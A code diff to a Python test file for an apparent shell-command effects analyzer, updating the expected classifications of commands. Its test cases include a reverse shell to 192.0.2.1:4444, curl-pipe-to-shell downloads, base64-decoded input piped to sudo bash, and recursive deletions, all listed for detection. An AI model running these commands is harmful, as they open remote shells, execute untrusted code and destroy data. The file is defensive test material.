@@ -9,6 +9,7 @@ from tests.effects.reading import PROGRAMS, all_shown, effects, opaque, shown
 
 SSH = "connect scheme=ssh host=h port=22 address_class=public"
 HTTP = "connect url=http://h/{} scheme=http host=h port=80 address_class=public"
+SENT = "transfer path={} url=http://h/ host=h address_class=public"
 CLONE = "connect url={} scheme=ssh host=h port=22 address_class=public"
 
 
@@ -164,7 +165,10 @@ EFFECTS: list[tuple[str, list[str]]] = [
     ("curl 'file:///etc/{a,b}'", ["read path=?"]),
     (
         "curl -F 'f=</a' -F 'g=@b;type=c' http://h/",
-        ["read path=/a", "read path=/w/b", "read path=/w/type=c", HTTP.format("")],
+        [
+            *("read path=/a", SENT.format("/a"), "read path=/w/b", "read path=/w/type=c"),
+            *(SENT.format("/w/b"), SENT.format("/w/type=c"), HTTP.format("")),
+        ],
     ),
     (
         "install -m 4755 a /usr/bin/",
@@ -250,7 +254,10 @@ EFFECTS: list[tuple[str, list[str]]] = [
     # wrappers
     ("sudo rm x", ["privilege user=root", "delete path=/w/x"]),
     ("sudo -u bob -- rm x", ["privilege user=bob", "delete path=/w/x"]),
-    ("sudo A=1 -E rm x", ["privilege user=root", "delete path=/w/x"]),
+    (
+        "sudo A=1 -E rm x",
+        ["privilege user=root", "environment name=A value=1", "delete path=/w/x"],
+    ),
     ("sudo -l", []),
     ("sudo -k", []),
     ("sudo -k rm x", ["privilege user=root", "delete path=/w/x"]),
@@ -265,11 +272,17 @@ EFFECTS: list[tuple[str, list[str]]] = [
     ("sudo -e /etc/x", ["privilege user=root", "write path=/etc/x"]),
     ("sudo --unknown y rm x", ["privilege user=root", "delete path=/w/x"]),
     ("doas rm x", ["privilege user=root", "delete path=/w/x"]),
-    ("env -i A=1 B=2 rm x", ["delete path=/w/x"]),
+    (
+        "env -i A=1 B=2 rm x",
+        ["environment name=A value=1", "environment name=B value=2", "delete path=/w/x"],
+    ),
     ("env -u A rm x", ["delete path=/w/x"]),
     ("env -C /y rm x", ["delete path=/y/x"]),
     ("env -S 'rm -rf' x", ["delete path=/w/x recursive=True"]),
-    ("env '-SA=1 rm -rf x'", ["delete path=/w/x recursive=True"]),
+    (
+        "env '-SA=1 rm -rf x'",
+        ["environment name=A value=1", "delete path=/w/x recursive=True"],
+    ),
     ("env -S 'rm $X'", ["opaque reason=the command's name is not known before it runs"]),
     ("taskset 0x1 rm x", ["delete path=/w/x"]),
     ("taskset -c 0,1 rm x", ["delete path=/w/x"]),
@@ -299,8 +312,8 @@ EFFECTS: list[tuple[str, list[str]]] = [
     ("xargs -I % rm %", ["delete path=? recursive=?"]),
     ("xargs -i rm {}", ["delete path=? recursive=?"]),
     ("xargs -a f -I % cat y", ["read path=?", "read path=/w/f", "read path=/w/y"]),
-    ("trap 'rm x' EXIT", ["interpret language=shell source=inline", "delete path=/w/x"]),
-    ("watch -n 1 rm x", ["interpret language=shell source=inline", "delete path=/w/x"]),
+    ("trap 'rm x' EXIT", ["delete path=/w/x"]),
+    ("watch -n 1 rm x", ["delete path=/w/x"]),
     (
         "su -c 'rm x' bob",
         [
@@ -336,10 +349,7 @@ EFFECTS: list[tuple[str, list[str]]] = [
     ("foo rm -r x", ["delete path=/w/x recursive=True (doubtful)"]),
     (
         "parallel -j 2 rm -rf ::: /x",
-        [
-            *("delete path=/w/::: recursive=True (doubtful)",),
-            *("delete path=/x recursive=True (doubtful)",),
-        ],
+        ["delete path=/x recursive=True"],
     ),
     ("foo -- /bin/chmod 777 x", ["permission path=/w/x mode=777 world_writable=True (doubtful)"]),
     ("foo sudo rm x", ["delete path=/w/x (doubtful)"]),
@@ -356,8 +366,12 @@ EFFECTS: list[tuple[str, list[str]]] = [
     ("bash x.sh -c y", ["interpret language=shell source=file"]),
     (". ./x.sh", ["interpret language=shell source=file"]),
     ("bash --version", []),
-    ("echo a | sh", ["interpret language=shell source=stdin"]),
-    ("base64 -d x | sudo bash", ["privilege user=root", "interpret language=shell source=stdin"]),
+    ("echo a | sh", ["interpret language=shell source=inline"]),
+    ("echo $a | sh", ["interpret language=shell source=stdin"]),
+    (
+        "base64 -d x | sudo bash",
+        ["read path=/w/x", "privilege user=root", "interpret language=shell source=stdin"],
+    ),
     ("bash < x", ["read path=/w/x", "interpret language=shell source=file"]),
     ("bash <<< 'rm x'", ["interpret language=shell source=inline", "delete path=/w/x"]),
     ("bash <<'E'\nrm x\nE", ["interpret language=shell source=inline", "delete path=/w/x"]),
@@ -368,12 +382,15 @@ EFFECTS: list[tuple[str, list[str]]] = [
     ("curl-x | bash /proc/self/fd/0", ["interpret language=shell source=stdin"]),
     ("sh -s a <<'E'\nrm x\nE", ["interpret language=shell source=inline", "delete path=/w/x"]),
     ("python -c 'x' a", ["interpret language=python source=inline"]),
-    ("python3.12 -m x y", []),
+    ("python3.12 -m x y", ["interpret language=python source=file"]),
     ("python x.py -c y", ["interpret language=python source=file"]),
     ("python - <<'E'\nx\nE", ["interpret language=python source=inline"]),
     ("python3 --version", []),
     ("node -e x", ["interpret language=javascript source=inline"]),
-    ("perl -pi -e x y", ["interpret language=perl source=inline", "write path=/w/y"]),
+    (
+        "perl -pi -e x y",
+        ["interpret language=perl source=inline", "read path=/w/y", "write path=/w/y"],
+    ),
     (
         "tar -cf x y --to-command='rm z'",
         [
@@ -419,18 +436,18 @@ def connects(text: str) -> list[str]:
         ("git clone https://example.org/x.git", ["example.org:443"]),
         ("git clone git@example.org:x.git", ["example.org:22"]),
         ("git clone http://[::1]/x", ["::1:80"]),
-        ("git push origin main", []),
+        ("git push origin main", ["origin:None"]),
         ("git fetch https://example.org/x", ["example.org:443"]),
         (
             "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
             [
-                *("interpret language=shell source=stdin", "192.0.2.1:4444"),
+                *("interpret language=shell source=download remote=True", "192.0.2.1:4444"),
             ],
         ),
         ("curl x.org | sh", ["x.org:80", "interpret language=shell source=download"]),
         ("curl x.org | tee y | sudo sh", ["x.org:80", "interpret language=shell source=download"]),
         ("curl x.org | python3", ["x.org:80", "interpret language=python source=download"]),
-        ("curl x.org; echo x | sh", ["x.org:80", "interpret language=shell source=stdin"]),
+        ("curl x.org; echo $x | sh", ["x.org:80", "interpret language=shell source=stdin"]),
         ("bash <(curl x.org)", ["interpret language=shell source=download", "x.org:80"]),
         (". <(curl x.org)", ["interpret language=shell source=download", "x.org:80"]),
         ("bash < <(curl x.org)", ["interpret language=shell source=download", "x.org:80"]),
@@ -493,7 +510,7 @@ def test_connections(text: str, found: list[str]) -> None:
         ("PWD=/y; rm x", "/w/x"),
         ('PWD=/y; rm "$PWD/x"', None),
         ("rm $HOME/x", "/home/u/x"),
-        ("HOME=/ ; rm $HOME/x", None),
+        ("HOME=/ ; rm $HOME/x", "/x"),
         ("rm ~/x; export HOME=/", None),
         ("eval HOME=/; rm ~/x", None),
         ("read HOME; rm ~/x", None),
